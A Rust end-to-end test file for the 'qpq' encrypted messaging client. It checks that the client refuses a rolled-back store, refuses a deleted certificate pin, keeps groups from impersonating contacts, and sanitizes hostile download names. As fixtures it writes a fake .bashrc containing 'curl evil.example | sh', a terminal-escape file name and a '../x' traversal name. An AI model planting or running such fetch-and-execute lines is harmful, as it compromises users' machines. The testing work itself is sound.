//! Trust in what is on this machine, through the real `qpq` binary (issue 12): an older copy
//! of the store put back is refused (not used to rewind MLS state), a deleted server pin is
//! refused (not silently replaced by whatever certificate answers), a group named like a
//! contact never receives what was meant for the contact, and a file offered under a hostile
//! name lands under a safe one in the download directory, next to the user's files, never over
//! them.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use qpq_core::client::Client;
use qpq_core::content::Body;
use qpq_core::vault::{Space, Vault};
use qpq_tests::{ServerProcess, register_account, workspace_bin};

/// An account driven through the `qpq` binary. Its `$HOME` is a directory of its own, and the
/// command runs in another (`work`), so nothing can land in either by accident.
struct Account {
    name: &'static str,
    /// `--home`: the store.
    store_dir: PathBuf,
    /// `$HOME`.
    home: PathBuf,
    /// The current directory of its commands.
    work: PathBuf,
}

impl Account {
    fn store(&self) -> PathBuf {
        self.store_dir.join("account.qpq")
    }

    fn passphrase(&self) -> String {
        format!("{} passphrase", self.name)
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = Command::new(workspace_bin("qpq"));
        c.arg("--home")
            .arg(&self.store_dir)
            .args(args)
            .current_dir(&self.work)
            .env("HOME", &self.home)
            .env("XDG_CONFIG_HOME", self.home.join(".config"))
            .env("QPQ_PASSPHRASE", self.passphrase())
            .env("QPQ_PASSWORD", format!("{} password", self.name))
            .env_remove("QPQ_HOME")
            .env_remove("QPQ_SERVER")
            .env_remove("XDG_DOWNLOAD_DIR")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        c
    }

    fn output(&self, args: &[&str]) -> Output {
        self.cmd(args).output().unwrap()
    }

    /// Runs `qpq args`; its stdout, or a panic with its stderr.
    fn run(&self, args: &[&str]) -> String {
        let out = self.output(args);
        assert!(
            out.status.success(),
            "{}: qpq {} failed:\n{}",
            self.name,
            args.join(" "),
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).into_owned()
    }

    /// Runs `qpq args`, which must fail; its stderr.
    fn refused(&self, args: &[&str]) -> String {
        let out = self.output(args);
        assert!(
            !out.status.success(),
            "{}: qpq {} succeeded, printing:\n{}",
            self.name,
            args.join(" "),
            String::from_utf8_lossy(&out.stdout)
        );
        String::from_utf8_lossy(&out.stderr).into_owned()
    }

    /// The engine on this account's store, connected.
    async fn client(&self) -> Client {
        let mut c = Client::open(&self.store(), &self.passphrase()).unwrap();
        c.connect().await.unwrap();
        c
    }
}

/// Registers `name` through the engine (pinning the server's fingerprint), as the other
/// end-to-end tests do, and gives it a `$HOME` and a working directory.
async fn register(server: &ServerProcess, dir: &Path, name: &'static str) -> Account {
    let account = Account {
        name,
        store_dir: dir.join(name).join("store"),
        home: dir.join(name).join("home"),
        work: dir.join(name).join("work"),
    };
    std::fs::create_dir_all(&account.home).unwrap();
    std::fs::create_dir_all(&account.work).unwrap();
    let password = format!("{name} password");
    register_account(server, &account.store_dir, name, &account.passphrase(), &password).await;
    account
}

/// The texts of a conversation's history as `qpq tail` prints them.
fn tail(a: &Account, conv: &str) -> String {
    a.run(&["tail", conv, "-n", "1000"])
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_older_copy_of_the_store_put_back_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let server = ServerProcess::start(&dir.path().join("server"), &[]).unwrap();
    let alice = register(&server, dir.path(), "alice").await;
    let bob = register(&server, dir.path(), "bob").await;
    alice.run(&["dm", "bob", "first"]);
    let anchor = qpq_core::vault::anchor_path(&alice.store());
    assert!(anchor.exists(), "the store has its anchor beside it");

    // A copy of the store as it was (a backup, a sync tool, someone with the disk).
    let old = dir.path().join("account.qpq.old");
    std::fs::copy(alice.store(), &old).unwrap();
    let behind = std::fs::read(&anchor).unwrap();
    alice.run(&["send", "@bob", "second"]);
    // A kill between a commit and the anchor write leaves the store ahead of its anchor: fine.
    std::fs::write(&anchor, &behind).unwrap();
    alice.run(&["send", "@bob", "third"]);
    std::fs::copy(&old, alice.store()).unwrap();

    // Every command refuses it, saying what happened and what to do; nothing is sent.
    for args in [&["whoami"][..], &["send", "@bob", "sent from the old copy"], &["sync"]] {
        let err = alice.refused(args);
        assert!(
            err.contains("older copy") && err.contains("rewind") && err.contains("qpq reanchor"),
            "qpq {}: {err}",
            args.join(" ")
        );
    }
    bob.run(&["sync"]);
    let dm = tail(&bob, "@alice");
    assert!(dm.contains("[alice] second") && dm.contains("[alice] third"), "{dm}");
    assert!(!dm.contains("old copy"), "the rolled-back store sent nothing: {dm}");

    // Only the user can take the old copy, on purpose.
    let out = alice.run(&["reanchor"]);
    assert!(out.contains("accepted as the newest copy"), "{out}");
    assert!(alice.run(&["whoami"]).contains("username alice"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_deleted_pin_is_refused_not_replaced_by_the_next_certificate() {
    let dir = tempfile::tempdir().unwrap();
    let mut server = ServerProcess::start(&dir.path().join("server"), &[]).unwrap();
    let addr = server.addr;
    let alice = register(&server, dir.path(), "alice").await;
    alice.run(&["sync"]);

    // Keys are plaintext in the store: anyone who can write the file can delete the pin.
    {
        let db = redb::Database::open(alice.store()).unwrap();
        let txn = db.begin_write().unwrap();
        {
            let def = redb::TableDefinition::<&[u8], &[u8]>::new("account");
            let mut t = txn.open_table(def).unwrap();
            assert!(t.remove(b"pin".as_slice()).unwrap().is_some(), "the pin was stored");
        }
        txn.commit().unwrap();
    }
    // Whoever answers at the server's address now has another certificate: trusting it on
    // first use would hand it the account.
    let original = server.fingerprint.clone();
    server.kill();
    let impostor =
        ServerProcess::start_on(&dir.path().join("impostor"), &addr.to_string(), &[]).unwrap();
    assert_ne!(impostor.fingerprint, original);

    for args in [&["sync"][..], &["send", "@nobody", "hi"], &["whoami"]] {
        let err = alice.refused(args);
        assert!(
            err.contains("no pinned server certificate") && err.contains("modified outside qpq"),
            "qpq {}: {err}",
            args.join(" ")
        );
    }
    let vault = Vault::open(&alice.store(), alice.passphrase().as_bytes()).unwrap();
    assert!(
        vault.get(Space::Account, b"pin").unwrap().is_none(),
        "nothing was pinned: the impostor's certificate was never trusted"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_group_named_like_a_contact_never_takes_their_messages() {
    let dir = tempfile::tempdir().unwrap();
    let server = ServerProcess::start(&dir.path().join("server"), &[]).unwrap();
    let alice = register(&server, dir.path(), "alice").await;
    let bob = register(&server, dir.path(), "bob").await;
    let mallory = register(&server, dir.path(), "mallory").await;
    alice.run(&["dm", "bob", "hello bob"]);

    // mallory (her own client, or a modified one) adds alice to a group and names it "bob".
    let group = {
        let mut m = mallory.client().await;
        let g = m.create_group("games").await.unwrap();
        m.add_members(&g, &["alice".into()]).await.unwrap();
        m.rename(&g, "bob", None).await.unwrap();
        m.disconnect().await;
        g
    };
    alice.run(&["sync"]);

    // A bare name both have is refused, naming both; nothing is sent anywhere.
    let err = alice.refused(&["send", "bob", "meant for bob"]);
    assert!(err.contains("@bob") && err.contains("#bob"), "{err}");
    let err = alice.refused(&["tail", "bob"]);
    assert!(err.contains("@bob") && err.contains("#bob"), "{err}");
    // The prefixes say which.
    alice.run(&["send", "@bob", "to the real bob"]);
    alice.run(&["send", "#bob", "to the group"]);

    let mut b = bob.client().await;
    b.sync().await.unwrap();
    let dm = b.find_conversation("@alice").unwrap().id;
    let texts: Vec<String> =
        b.history(&dm, 100).unwrap().into_iter().filter(|e| !e.system).map(|e| e.text).collect();
    assert_eq!(texts, ["hello bob", "to the real bob"]);
    b.send_text(&dm, "bob here").await.unwrap();
    b.disconnect().await;
    drop(b);
    let mut m = mallory.client().await;
    m.sync().await.unwrap();
    let texts: Vec<String> =
        m.history(&group, 100).unwrap().into_iter().filter(|e| !e.system).map(|e| e.text).collect();
    assert_eq!(texts, ["to the group"], "the group got only what was sent to #bob");
    m.send_text(&group, "mallory here").await.unwrap();
    m.disconnect().await;
    drop(m);

    // Lists and output always carry the prefix, and flag the group's borrowed name.
    alice.run(&["sync"]);
    let unread = alice.run(&["unread"]);
    assert!(unread.lines().any(|l| l.trim_end().ends_with("  @bob")), "{unread}");
    assert!(unread.contains("#bob (a group, named like the person @bob)"), "{unread}");
    let json = alice.run(&["unread", "--json"]);
    let list: serde_json::Value = serde_json::from_str(&json).unwrap();
    let by = |address: &str| {
        list.as_array().unwrap().iter().find(|c| c["conversation"] == address).cloned().unwrap()
    };
    assert_eq!(by("@bob")["named_like_person"], false, "{json}");
    assert_eq!(by("#bob")["named_like_person"], true, "{json}");
    assert_eq!(by("#bob")["kind"], "group", "{json}");
    let dm_tail = tail(&alice, "@bob");
    assert!(dm_tail.starts_with("-- @bob --\n"), "{dm_tail}");
    assert!(dm_tail.contains("[bob] bob here") && !dm_tail.contains("mallory here"), "{dm_tail}");
    let group_tail = tail(&alice, "#bob");
    assert!(
        group_tail.starts_with("-- #bob (a group, named like the person @bob) --"),
        "{group_tail}"
    );
    assert!(group_tail.contains("[mallory] mallory here"), "{group_tail}");

    // alice's own groups cannot take a person's name in the first place.
    let err = alice.refused(&["group", "create", "bob"]);
    assert!(err.contains("person's name"), "{err}");
    alice.run(&["group", "create", "chess"]);
    let err = alice.refused(&["group", "rename", "chess", "bob"]);
    assert!(err.contains("person's name"), "{err}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_file_names_land_safely_in_the_download_directory() {
    let dir = tempfile::tempdir().unwrap();
    let server = ServerProcess::start(&dir.path().join("server"), &[]).unwrap();
    let alice = register(&server, dir.path(), "alice").await;
    let bob = register(&server, dir.path(), "bob").await;

    // bob offers files named to hurt: a dotfile, a name with terminal escape sequences (both
    // real files sent with `qpq send-file`), and a path (which only a modified client sends).
    let src = dir.path().join("bob-files");
    std::fs::create_dir_all(&src).unwrap();
    let dotfile = src.join(".bashrc");
    std::fs::write(&dotfile, "curl evil.example | sh\n").unwrap();
    let escape = "notes\u{1b}]0;pwned\u{7}\u{1b}[31m.txt";
    std::fs::write(src.join(escape), "red text\n").unwrap();
    bob.run(&["dm", "alice", "files for you"]);
    bob.run(&["send-file", "@alice", dotfile.to_str().unwrap()]);
    bob.run(&["send-file", "@alice", src.join(escape).to_str().unwrap()]);
    {
        let mut b = bob.client().await;
        let dm = b.find_conversation("@alice").unwrap().id;
        let offer = b.history(&dm, 100).unwrap().into_iter().find_map(|e| e.file).unwrap();
        let mut traversal = offer.clone();
        traversal.name = "../x".into();
        b.send(&dm, Body::File(traversal)).await.unwrap();
        b.disconnect().await;
    }

    // alice's download directory, from user-dirs.dirs, is her home, which has a .bashrc.
    std::fs::create_dir_all(alice.home.join(".config")).unwrap();
    std::fs::write(
        alice.home.join(".config/user-dirs.dirs"),
        "# xdg-user-dirs\nXDG_DOWNLOAD_DIR=\"$HOME\"\n",
    )
    .unwrap();
    let bashrc = alice.home.join(".bashrc");
    std::fs::write(&bashrc, "# alice's own\n").unwrap();
    alice.run(&["sync"]);
    let shown = tail(&alice, "@bob");
    assert!(!shown.contains('\u{1b}') && !shown.contains('\u{7}'), "{shown:?}");
    assert!(shown.contains("notes\\u{1b}]0;pwned"), "the name is shown, escaped: {shown}");

    let home = alice.home.display().to_string();
    let first = alice.run(&["download", "@bob", "--name", ".bashrc"]);
    let second = alice.run(&["download", "@bob", "--name", ".bashrc"]);
    assert_eq!(first.trim(), format!("saved {home}/bashrc (offered as \".bashrc\")"));
    assert_eq!(second.trim(), format!("saved {home}/bashrc (1) (offered as \".bashrc\")"));
    let up = alice.run(&["download", "@bob", "--name", "../x"]);
    assert_eq!(up.trim(), format!("saved {home}/x (offered as \"../x\")"));
    let esc = alice.run(&["download", "@bob", "--name", escape]);
    assert!(!esc.contains('\u{1b}') && !esc.contains('\u{7}'), "{esc:?}");
    assert!(esc.starts_with(&format!("saved {home}/notes_]0;pwned__[31m.txt ")), "{esc}");

    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# alice's own\n", "untouched");
    for saved in ["bashrc", "bashrc (1)", "x"] {
        let got = std::fs::read_to_string(alice.home.join(saved)).unwrap();
        assert_eq!(got, "curl evil.example | sh\n", "{saved}");
    }
    assert_eq!(
        std::fs::read_to_string(alice.home.join("notes_]0;pwned__[31m.txt")).unwrap(),
        "red text\n"
    );
    assert!(!alice.home.parent().unwrap().join("x").exists(), "nothing outside the directory");
    assert!(std::fs::read_dir(&alice.work).unwrap().next().is_none(), "nothing in the cwd");

    // Without user-dirs.dirs: ~/Downloads; with $XDG_DOWNLOAD_DIR: that.
    std::fs::remove_file(alice.home.join(".config/user-dirs.dirs")).unwrap();
    let out = alice.run(&["download", "@bob", "--name", ".bashrc"]);
    assert_eq!(out.trim(), format!("saved {home}/Downloads/bashrc (offered as \".bashrc\")"));
    let chosen = dir.path().join("chosen");
    let out = alice
        .cmd(&["download", "@bob", "--name", "../x"])
        .env("XDG_DOWNLOAD_DIR", &chosen)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(chosen.join("x").exists());
    assert!(String::from_utf8_lossy(&out.stdout).contains(&format!("{}/x", chosen.display())));
}
